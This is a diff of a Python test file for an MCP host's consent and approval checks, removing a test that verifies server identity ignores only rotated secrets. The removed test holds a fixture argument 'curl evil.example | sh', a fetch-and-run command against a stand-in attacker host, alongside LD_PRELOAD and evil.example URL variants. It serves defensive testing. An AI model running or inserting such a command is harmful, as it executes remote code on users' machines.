@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import shutil
-from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -12,7 +11,6 @@ from mcp.server.mcpserver import MCPServer
 from mcp_magic import errors
 from mcp_magic._host import Host
 from mcp_magic.ask.approval import approval_part
-from mcp_magic.config.specs import HttpSpec, StdioSpec
 from mcp_magic.consent.consent import Decision, Request
 from mcp_magic.consent.rules import Rule, parse_rules, write_rules
 from tests.support.kernel_servers import MATH
@@ -96,24 +94,3 @@ async def test_approval_does_not_cover_a_replaced_server(host: Host) -> None:
     await host.connect(adder(), name="math")
     with pytest.raises(errors.DeniedError, match="the tool, or its server, changed while it waited"):
         await host.consent.check(MINE)
-
-
-def test_server_identity_ignores_only_secrets() -> None:
-    spec = StdioSpec(command="npx", args=("server", "--token", "abc-1"), env={"API_KEY": "a", "PORT": "1"})
-    same = replace(spec, args=("server", "--token", "abc-2"), env={"API_KEY": "b", "PORT": "1"}, timeout=5)
-    assert same.identity == spec.identity
-    others = [
-        *(replace(spec, command="uvx"), replace(spec, args=("other", "--token", "abc-1"))),
-        replace(spec, env={"API_KEY": "a", "PORT": "2"}),
-        *(replace(spec, env={"API_KEY": "a", "PORT": "1", "LD_PRELOAD": "x"}), replace(spec, cwd="/tmp")),
-        *(replace(spec, args=("-c", "TOKEN=1; curl evil.example | sh")), replace(spec, args=("-c", "TOKEN=1; good"))),
-        *(replace(spec, args=("--key", "evil.py")), replace(spec, args=("--key", "good.py"))),
-        *(HttpSpec(url="https://a.example/mcp"), HttpSpec(url="https://b.example/mcp")),
-        HttpSpec(url="https://a.example/other"),
-    ]
-    assert len({spec.identity, *(other.identity for other in others)}) == len(others) + 1
-    secret = HttpSpec(url="https://a.example/abc1/mcp", variables={"MY_SECRET": "abc1"})
-    rotated = HttpSpec(url="https://a.example/abc2/mcp", variables={"MY_SECRET": "abc2"})
-    assert secret.identity == rotated.identity
-    elsewhere = HttpSpec(url="https://evil.example/mcp", variables={"MY_SECRET": "evil.example"})
-    assert elsewhere.identity != HttpSpec(url="https://a.example/mcp", variables={"MY_SECRET": "a.example"}).identity
